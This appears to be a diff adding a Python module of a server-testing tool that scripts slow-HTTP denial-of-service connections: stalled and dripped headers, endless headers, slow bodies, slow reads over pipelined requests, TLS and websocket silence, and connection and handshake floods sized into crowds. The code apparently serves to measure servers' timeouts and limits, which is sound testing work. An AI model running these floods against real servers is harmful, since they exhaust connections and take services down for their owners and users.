@@ -1,0 +1,219 @@
+"""What each attack sends: the scripts of its connections.
+
+Roles of a connection, which `kinds` compares:
+
+stalled    says its part and then nothing: it ends at the deadline, of whichever kind
+dripped    goes on at a given rate, in pieces every tenth of a second: an idle timeout never ends it, an absolute
+           deadline ends it like the stalled one, a minimum rate later the faster it is. All rates are tried at once, in
+           steps of two or three, in place of one after another
+fed        does all that is asked: an idle timeout never ends it, an absolute one does
+poked      reads nothing and sends a byte every few milliseconds, so that a FIN is seen (probe.py)
+flood      sends as fast as it may: it finds limits of size, not of time
+"""
+
+from __future__ import annotations
+
+import math
+import ssl
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+
+from ..target import Target, upgrade
+from .script import Script
+
+# seconds between two pieces; an idle timeout must be longer than that to be told from an absolute deadline
+DRIP = 0.1
+# the same between two requests, and between two lines of an endless head: a hundred lines, which is a usual limit, must
+# take longer than ten seconds, which is a usual deadline
+REQUEST = 0.15
+# the same for what reads nothing: the precision of what it sees
+POKE = 0.005
+# the same for what reads slowly
+GULP = 0.02
+# bytes per second; the usual minimum rates are 100 to 500
+RATES = (10.0, 30.0, 100.0, 200.0, 300.0, 500.0, 1000.0, 3000.0)
+READ_RATES = (100.0, 500.0, 2000.0, 8000.0, 32000.0)
+# connections that measure one deadline, and those that go on beside them
+STALLED = 4
+DRIPPED = 2
+# bytes of a head that no server may refuse for its size
+HEAD = 6000
+# bytes of responses that fill the kernel's and a server's own buffers when nobody reads
+FILLING = 200_000
+# bytes of requests that a server's kernel takes while the server reads none
+PIPELINE = 96_000
+# the same for one that reads slowly: bytes, and requests
+_LONG_PIPELINE = 1_000_000
+_REQUESTS = 5_000
+
+# requests that a crowd which reads nothing makes in all: it holds on to a server, and must not keep it busy
+CROWD_REQUESTS = 20_000
+
+_LINE = b"X-Endless: 1\r\n"
+_BODY = 1 << 30
+
+
+@dataclass(frozen=True)
+class Facts:
+    """What is known of a target before it is attacked. `size`: bytes of its usual response."""
+
+    target: Target
+    size: int
+    websocket: bool
+    limit: float
+
+
+# the attacks whose connections are also compared with those of another
+NEEDS = {"silent": {"slow-header"}, "endless-header": {"slow-header"}, "stalled-body": {"slow-body"}}
+
+
+def scripts(facts: Facts, names: frozenset[str]) -> list[Script]:
+    """Return the scripts of all connections that the attacks of these names need."""
+    groups = names.union(*(NEEDS.get(name, set()) for name in names))
+    makers = {
+        "silent": _silent,
+        "slow-header": _slow_header,
+        "endless-header": _endless_header,
+        "slow-body": _slow_body,
+        "slow-read": _slow_read,
+        "idle": _idle,
+        "half-close": _half_close,
+        "pipelined": _pipelined,
+        "tls-silent": _tls_silent,
+        "websocket-silent": _websocket_silent,
+    }
+    return [script for name, make in makers.items() if name in groups for script in make(facts)]
+
+
+def _silent(facts: Facts) -> Iterator[Script]:
+    """Say nothing, with TLS not even in the handshake. There the dripped connection sends an unfinished record."""
+    start = Script("silent", "stalled", shake=False, since="connect")
+    yield from [start] * STALLED
+    if facts.target.tls:
+        record = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # a ClientHello of 512 bytes begins
+        drip = replace(start, role="dripped", opening=record, piece=b"\0", interval=REQUEST, rate=1 / REQUEST)
+        yield from [replace(drip, cap=500)] * DRIPPED
+
+
+def _slow_header(facts: Facts) -> Iterator[Script]:
+    start = Script("slow-header", "stalled", opening=_partial_head(facts.target), since="connect")
+    yield from _stalled_and_dripped(start, HEAD)
+
+
+def _stalled_and_dripped(start: Script, cap: int) -> Iterator[Script]:
+    """Return the stalled connections, and one or two for each rate that does not send `cap` bytes in a second."""
+    yield from [start] * STALLED
+    for number, rate in enumerate(RATES):
+        if rate <= cap:
+            drip = replace(start, role="dripped", piece=b"a" * round(rate * DRIP), interval=DRIP, rate=rate, cap=cap)
+            yield from [drip] * (1 if number else DRIPPED)
+
+
+def _partial_head(target: Target) -> bytes:
+    return target.head("GET") + b"X-Slow: "
+
+
+def _endless_header(facts: Facts) -> Iterator[Script]:
+    start = Script("endless-header", "dripped", opening=facts.target.head("GET"), since="connect", piece=_LINE)
+    rate = len(_LINE) / REQUEST
+    yield from [replace(start, interval=REQUEST, rate=rate)] * STALLED
+    long = b"X-Endless: " + b"a" * 1000 + b"\r\n"
+    yield replace(start, role="flood", piece=long, interval=0.002, rate=len(long) / 0.002)
+
+
+def _slow_body(facts: Facts) -> Iterator[Script]:
+    kind = "Content-Type: application/octet-stream"
+    opening = facts.target.head("POST", kind, f"Content-Length: {_BODY}") + b"\r\n"
+    yield from _stalled_and_dripped(Script("slow-body", "stalled", opening=opening), 1 << 20)
+
+
+def _slow_read(facts: Facts) -> Iterator[Script]:
+    """Ask for more than buffers hold, and read nothing, or slowly."""
+    short = f"GET {facts.target.path} HTTP/1.1\r\nHost: {facts.target.authority}\r\n".encode("latin-1")
+    request = short + b"\r\n"
+    number = min(math.ceil(FILLING / facts.size), PIPELINE // len(request)) + 1
+    start = Script("slow-read", "stalled", opening=request * number, gulp=0, interval=POKE)
+    yield start
+    poke = replace(start, role="poked", opening=start.opening + short + b"X-Slow: ", piece=b"a", cap=PIPELINE * 2)
+    yield from [poke] * 3
+    for rate in READ_RATES:
+        number = math.ceil((FILLING + rate * facts.limit * 1.1) / facts.size)
+        if number <= _REQUESTS and number * len(request) <= _LONG_PIPELINE:
+            gulp = replace(poke, role="dripped", opening=request * number + short + b"X-Slow: ", interval=GULP)
+            yield replace(gulp, gulp=round(rate * GULP), rate=rate, cap=2 * _LONG_PIPELINE)
+
+
+def fills(facts: Facts) -> bool:
+    """Tell if enough can be asked for to fill a server's buffers."""
+    request = f"GET {facts.target.path} HTTP/1.1\r\nHost: {facts.target.authority}\r\n\r\n"
+    return PIPELINE // len(request) * facts.size >= FILLING
+
+
+def _idle(facts: Facts) -> Iterator[Script]:
+    get = facts.target.get()
+    start = Script("idle", "stalled", opening=get, answers=1)
+    yield from [start] * STALLED
+    yield replace(start, role="fed", piece=get, interval=REQUEST, rate=len(get) / REQUEST)
+
+
+def _half_close(facts: Facts) -> Iterator[Script]:
+    yield from [Script("half-close", "stalled", opening=_partial_head(facts.target), half_close=True)] * 2
+
+
+def _pipelined(facts: Facts) -> Iterator[Script]:
+    """Send a whole request and the beginning of a next one at once; stall, or drip, in the second."""
+    opening = facts.target.get() + _partial_head(facts.target)
+    start = Script("pipelined", "stalled", opening=opening, answers=1)
+    yield from [start] * 3
+    yield replace(start, role="dripped", piece=b"a", interval=DRIP, rate=1 / DRIP, cap=HEAD)
+
+
+def _tls_silent(facts: Facts) -> Iterator[Script]:
+    start = Script("tls-silent", "stalled", since="connect")
+    yield from [start] * 3
+    yield replace(
+        start, role="dripped", opening=_partial_head(facts.target), piece=b"a", interval=DRIP, rate=1 / DRIP, cap=HEAD
+    )
+
+
+def _websocket_silent(facts: Facts) -> Iterator[Script]:
+    start = Script("websocket-silent", "stalled", opening=upgrade(facts.target), answers=1)
+    yield from [start] * 3
+    yield replace(start, role="fed", pongs=True)
+
+
+def crowd(facts: Facts, name: str) -> Script:
+    """Return the script of one of many connections of an attack, which hold on to a server and cost the client little.
+
+    They drip once a second; nobody pokes.
+    """
+    if name == "stalled-body":
+        return next(iter(_slow_body(facts)))
+    if name in ("connection-flood", "handshake-flood"):
+        opening = client_hello(facts.target) if name == "handshake-flood" else b""
+        return Script(name, "flood", opening=opening, shake=False, since="connect")
+    wanted = {"slow-header": "dripped", "slow-body": "dripped"}.get(name)
+    found = [one for one in scripts(facts, frozenset({name})) if one.attack == name and wanted in (None, one.role)]
+    slow = found[0]
+    return replace(slow, interval=1.0) if slow.piece and slow.role == "dripped" else slow
+
+
+def crowd_size(facts: Facts, name: str, connections: int) -> int:
+    """Return how many connections of an attack make a crowd: fewer, where each asks a server to work for it."""
+    if name != "slow-read":
+        return connections
+    requests = math.ceil(FILLING / facts.size) + 1
+    return max(1, min(connections, CROWD_REQUESTS // requests))
+
+
+def client_hello(target: Target) -> bytes:
+    """Return the first message of a TLS handshake, which costs a server a signature to answer."""
+    context = target.context() or ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    half = context.wrap_bio(incoming, outgoing, server_hostname=target.host)
+    try:
+        half.do_handshake()
+    except ssl.SSLWantReadError:
+        return outgoing.read()
+    raise AssertionError("a handshake needs an answer")
